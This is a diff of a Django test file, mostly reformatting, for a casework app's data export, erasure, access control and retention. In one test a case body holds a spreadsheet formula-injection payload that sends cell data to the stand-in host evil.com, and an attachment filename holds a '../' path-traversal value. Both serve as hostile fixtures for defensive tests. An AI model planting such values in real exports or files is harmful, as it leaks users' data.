@@ -35,16 +35,33 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
 
 def test_it_exports_everything_held_in_one_archive(client: Client, cast: Cast) -> None:
     Consent.objects.create(person=cast.person, purpose="casework", given=True, source="phone")
-    case = make_case(cast.office, cast.person, heard="Keeping my flat",
-                     body=f"{HYPERLINK}\nMy flat is damp and the café downstairs is loud.")
-    Reply.objects.create(office=cast.office, case=case, person=cast.person, subject="Re: damp",
-                         body="We have written to the landlord.")
+    case = make_case(
+        cast.office,
+        cast.person,
+        heard="Keeping my flat",
+        body=f"{HYPERLINK}\nMy flat is damp and the café downstairs is loud.",
+    )
+    Reply.objects.create(
+        office=cast.office,
+        case=case,
+        person=cast.person,
+        subject="Re: damp",
+        body="We have written to the landlord.",
+    )
     make_case(cast.other_office, cast.other_person, body="Ken's private words")
     Voice.objects.filter(case=case).update(
-        emotion="distress", emotion_words="I can't cope", theme="housing",
-        request_for_help=True, request_words="Can you help",
-        flags=[{"kind": "eviction", "label": "Eviction or homelessness imminent",
-                "evidence": ["notice to quit"]}],
+        emotion="distress",
+        emotion_words="I can't cope",
+        theme="housing",
+        request_for_help=True,
+        request_words="Can you help",
+        flags=[
+            {
+                "kind": "eviction",
+                "label": "Eviction or homelessness imminent",
+                "evidence": ["notice to quit"],
+            }
+        ],
     )
     attachment = Attachment(voice=Voice.objects.get(case=case), filename="../eviction notice.pdf")
     attachment.file.save("notice.pdf", ContentFile(b"%PDF-1.4 the notice"), save=True)
@@ -54,7 +71,10 @@ def test_it_exports_everything_held_in_one_archive(client: Client, cast: Cast) -
     response = client.get(f"/cases/people/{cast.person.pk}/subject-access.zip")
     archive = zipfile.ZipFile(io.BytesIO(response.content))
     assert set(archive.namelist()) == {
-        "record.json", "record.pdf", "messages.csv", "README.txt",
+        "record.json",
+        "record.pdf",
+        "messages.csv",
+        "README.txt",
         f"attachments/{attachment.pk}-eviction notice.pdf",
     }
     assert archive.read(f"attachments/{attachment.pk}-eviction notice.pdf").startswith(b"%PDF")
@@ -81,8 +101,13 @@ def test_it_exports_everything_held_in_one_archive(client: Client, cast: Cast) -
 
 def test_it_erases_on_request_and_audits_without_the_data(client: Client, cast: Cast) -> None:
     Consent.objects.create(person=cast.person, purpose="casework", given=True)
-    case = make_case(cast.office, cast.person, subject="Joan's debts", heard="My debts",
-                     body="I owe £1,450 to the council, Joan Smith, 4 Mill Lane.")
+    case = make_case(
+        cast.office,
+        cast.person,
+        subject="Joan's debts",
+        heard="My debts",
+        body="I owe £1,450 to the council, Joan Smith, 4 Mill Lane.",
+    )
     Voice.objects.filter(case=case).update(
         emotion_words="I am desperate", request_words="I would be grateful if you could help"
     )
@@ -114,21 +139,43 @@ def test_it_erases_on_request_and_audits_without_the_data(client: Client, cast: 
 def test_it_never_lets_another_office_export_or_erase(client: Client, cast: Cast) -> None:
     client.force_login(cast.outsider)
     assert client.get(f"/cases/people/{cast.person.pk}/subject-access.zip").status_code == 404
-    assert client.post(f"/cases/people/{cast.person.pk}/erase/",
-                       {"confirm": "erase"}).status_code == 404
+    assert (
+        client.post(f"/cases/people/{cast.person.pk}/erase/", {"confirm": "erase"}).status_code
+        == 404
+    )
     assert Person.objects.get(pk=cast.person.pk).erased_at is None
 
 
 def test_retention_dry_run_changes_nothing_then_apply_anonymises(cast: Cast) -> None:
     long_ago = timezone.now() - timedelta(days=365 * 7)
-    old = make_case(cast.office, cast.person, subject="Old housing case", status=Status.CLOSED,
-                    outcome="helped", closed_at=long_ago, opened_at=long_ago,
-                    body="Old words about my flat.")
-    recent = make_case(cast.office, cast.person, subject="Recent case", status=Status.CLOSED,
-                       outcome="helped", closed_at=timezone.now() - timedelta(days=30))
+    old = make_case(
+        cast.office,
+        cast.person,
+        subject="Old housing case",
+        status=Status.CLOSED,
+        outcome="helped",
+        closed_at=long_ago,
+        opened_at=long_ago,
+        body="Old words about my flat.",
+    )
+    recent = make_case(
+        cast.office,
+        cast.person,
+        subject="Recent case",
+        status=Status.CLOSED,
+        outcome="helped",
+        closed_at=timezone.now() - timedelta(days=30),
+    )
     loner = Person.objects.create(office=cast.office, first_name="Lone", email="lone@example.com")
-    lone_case = make_case(cast.office, loner, status=Status.CLOSED, outcome="referred",
-                          closed_at=long_ago, opened_at=long_ago, body="Only ever wrote once.")
+    lone_case = make_case(
+        cast.office,
+        loner,
+        status=Status.CLOSED,
+        outcome="referred",
+        closed_at=long_ago,
+        opened_at=long_ago,
+        body="Only ever wrote once.",
+    )
     runner = CliRunner()
 
     dry = runner.invoke(retention, ["--dry-run"])
